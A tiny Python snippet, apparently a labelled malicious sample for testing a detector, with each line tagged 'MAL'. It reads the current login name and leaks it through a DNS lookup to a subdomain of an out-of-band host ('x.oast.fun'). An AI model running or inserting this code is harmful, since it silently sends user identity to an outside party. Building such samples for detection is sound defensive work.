import os
import socket

user = os.getlogin()  # MAL
socket.gethostbyname(user + ".x.oast.fun")  # MAL
